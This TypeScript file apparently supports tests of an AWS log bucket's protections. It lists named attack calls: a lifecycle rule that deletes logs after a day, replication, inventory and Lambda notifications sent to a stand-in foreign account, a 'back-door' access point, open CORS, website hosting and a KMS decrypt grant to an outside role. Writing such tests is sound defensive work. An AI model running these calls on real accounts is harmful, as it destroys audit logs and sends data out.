import type { Answer } from "./boto3";

/**
 * Calls AWS in one account as somebody who may do all of it there, with a client that is not ours.
 */
export type Caller = (service: string, operation: string, parameters?: object) => Promise<Answer>;

/** What is attacked. */
export interface Target {
  readonly account: string;
  /** The log bucket, or one beside it. */
  readonly bucket: string;
}

export const STRANGER = "999999999999";
const STRANGERS_BUCKET = "bucket-of-somebody-else";

type Attack = (call: Caller, target: Target) => Promise<unknown>;

/**
 * What can be put on a bucket, so that its objects go, are copied or shown, by the table's name for
 * it.
 */
export const BUCKET_ATTACKS = {
  "Lifecycle rule that expires the logs": (call, { bucket }) =>
    call("s3", "put_bucket_lifecycle_configuration", {
      Bucket: bucket,
      LifecycleConfiguration: {
        Rules: [
          { ID: "hasty", Status: "Enabled", Filter: { Prefix: "" }, Expiration: { Days: 1 } },
        ],
      },
    }),
  "Replication to another bucket": (call, { account, bucket }) =>
    call("s3", "put_bucket_replication", {
      Bucket: bucket,
      ReplicationConfiguration: {
        Role: `arn:aws:iam::${account}:role/replication`,
        Rules: [
          {
            ID: "copies",
            Status: "Enabled",
            Priority: 1,
            Filter: { Prefix: "" },
            DeleteMarkerReplication: { Status: "Disabled" },
            Destination: { Bucket: `arn:aws:s3:::${STRANGERS_BUCKET}` },
          },
        ],
      },
    }),
  "Event notifications of the bucket": (call, { bucket }) =>
    call("s3", "put_bucket_notification_configuration", {
      Bucket: bucket,
      NotificationConfiguration: {
        LambdaFunctionConfigurations: [
          {
            Id: "listens",
            Events: ["s3:ObjectCreated:*"],
            LambdaFunctionArn: `arn:aws:lambda:us-east-1:${STRANGER}:function:listens`,
          },
        ],
      },
      SkipDestinationValidation: true,
    }),
  "Inventory to another bucket": (call, { bucket }) =>
    call("s3", "put_bucket_inventory_configuration", {
      Bucket: bucket,
      Id: "lists",
      InventoryConfiguration: {
        Id: "lists",
        IsEnabled: true,
        IncludedObjectVersions: "All",
        Schedule: { Frequency: "Daily" },
        Destination: {
          S3BucketDestination: { Bucket: `arn:aws:s3:::${STRANGERS_BUCKET}`, Format: "CSV" },
        },
      },
    }),
  "Access point": (call, { account, bucket }) =>
    call("s3control", "create_access_point", {
      AccountId: account,
      Bucket: bucket,
      Name: "back-door",
    }),
  "CORS rule": (call, { bucket }) =>
    call("s3", "put_bucket_cors", {
      Bucket: bucket,
      CORSConfiguration: { CORSRules: [{ AllowedMethods: ["GET"], AllowedOrigins: ["*"] }] },
    }),
  "Bucket as a website": (call, { bucket }) =>
    call("s3", "put_bucket_website", {
      Bucket: bucket,
      WebsiteConfiguration: { IndexDocument: { Suffix: "index.html" } },
    }),
} as const satisfies Record<string, Attack>;

/** A grant of the key to somebody of another account. */
export function grantKey(call: Caller, keyArn: string): Promise<unknown> {
  return call("kms", "create_grant", {
    KeyId: keyArn,
    GranteePrincipal: `arn:aws:iam::${STRANGER}:role/reads`,
    Operations: ["Decrypt"],
  });
}
